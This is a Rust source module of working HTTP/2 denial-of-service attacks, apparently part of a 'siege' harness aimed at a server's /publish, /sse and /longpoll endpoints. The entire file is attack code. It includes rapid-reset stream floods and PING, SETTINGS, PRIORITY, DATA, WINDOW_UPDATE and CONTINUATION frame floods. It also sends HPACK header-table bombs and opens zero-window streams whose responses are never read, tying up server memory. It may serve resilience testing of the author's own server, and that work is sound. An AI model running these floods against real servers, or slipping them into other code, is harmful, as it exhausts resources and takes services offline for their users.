//! Attacks over HTTP/2.

use std::sync::atomic::Ordering;

use tokio::io::AsyncWriteExt;
use tokio::time::sleep;

use super::{Besieger, PAUSE, Siege};
use crate::http2::floods::{ASK, END, PREFACE, frame};

impl Besieger {
    /// Floods a connection until it is let go.
    fn flood(
        &self,
        siege: &Siege,
        opening: Vec<u8>,
        flood: impl Fn(u32) -> Vec<u8> + Clone + Send + Sync + 'static,
    ) {
        siege.again(self, move |besieger| {
            let (opening, flood) = (opening.clone(), flood.clone());
            async move {
                let mut peer = besieger.connect().await?;
                peer.write_all(&[PREFACE, &frame(4, 0, 0, &[]), &opening].concat()).await?;
                for n in 0.. {
                    peer.write_all(&flood(n)).await?;
                    besieger.tried.fetch_add(1, Ordering::Relaxed);
                    sleep(PAUSE).await;
                    let _ = peer.try_read(&mut [0; 4 << 10]);
                }
                Ok(())
            }
        });
    }

    pub(super) fn streams(&self, siege: &Siege) {
        let publish = frame(1, 4, 1, b"\x83\x86\x04\x08/publish");
        let of = |stream: u32| [frame(1, END, stream, ASK), frame(3, 0, stream, &[0, 0, 0, 8])].concat();
        self.flood(siege, Vec::new(), move |n| (50 * n..50 * (n + 1)).flat_map(|n| of(2 * n + 1)).collect());
        self.flood(siege, Vec::new(), |_| frame(6, 0, 0, &[7; 8]).repeat(100));
        self.flood(siege, Vec::new(), |n| frame(4, 0, 0, &[0, 4, 0, 0, 0, n as u8]).repeat(100));
        self.flood(siege, Vec::new(), |_| frame(2, 0, 1, &[0, 0, 0, 0, 7]).repeat(100));
        self.flood(siege, publish.clone(), |_| frame(0, 0, 1, &[]).repeat(100));
        self.flood(siege, publish, |_| frame(0, 0, 1, b"1").repeat(100));
        self.flood(siege, frame(1, END, 1, ASK), |_| frame(8, 0, 1, &[0, 0, 0, 1]).repeat(100));
        self.flood(siege, frame(1, 1, 1, ASK), |_| frame(9, 0, 1, &[]).repeat(100));
        self.flood(siege, Vec::new(), |n| {
            let trick = |n| [frame(1, END, 2 * n + 1, ASK), frame(8, 0, 2 * n + 1, &[0; 4])].concat();
            (50 * n..50 * (n + 1)).flat_map(trick).collect()
        });
    }

    pub(super) fn weights(&self, siege: &Siege) {
        // `:path` of 4,000 letters, and its entry named with each byte that follows.
        let path = [b"\x82\x86\x44\x7f\xa1\x1e/".as_slice(), &[b'x'; 3_999]].concat();
        let block = [&path[..], &[0xbe; 12_000]].concat();
        self.flood(siege, Vec::new(), move |n| frame(1, END, 2 * n + 1, &block));
        let cookie = [b"\x82\x86\x84\x60\x7f\xa1\x1e".as_slice(), &[b'x'; 4_000], &[0xbe; 12_000]].concat();
        self.flood(siege, Vec::new(), move |n| frame(1, END, 2 * n + 1, &cookie));
        // As many streams as there may be, none of which is read. Those with a window of nothing are on the feed. Those with
        // room for all are on a topic where nothing happens: on the feed each would cost what any subscriber does, and so
        // many of those are a load and no attack.
        for (window, path, streams) in [
            ([0, 0, 0, 0], "/sse?topic=demo", 128),
            ([0x7f, 0xff, 0xff, 0xff], "/sse?topic=quiet", 128),
            ([0, 0, 0, 0], "/longpoll?topic=demo&hold=60", 128),
        ] {
            let settings = frame(4, 0, 0, &[&[0, 4][..], &window].concat());
            let fields = [b"\x82\x86\x04", &[path.len() as u8][..], path.as_bytes()].concat();
            let all = (0..streams).flat_map(|n| frame(1, END, 2 * n + 1, &fields));
            let opening = [settings, all.collect(), frame(8, 0, 0, &[0x7f, 0, 0, 0])].concat();
            for _ in 0..2 {
                let besieger = self.clone();
                let opening = opening.clone();
                siege.runtime().spawn(async move {
                    let mut peer = besieger.connect().await?;
                    peer.write_all(&[PREFACE, &opening].concat()).await?;
                    besieger.tried.fetch_add(1, Ordering::Relaxed);
                    // Not a byte of what is answered is ever read.
                    std::future::pending::<()>().await;
                    peer.shutdown().await
                });
            }
        }
    }
}
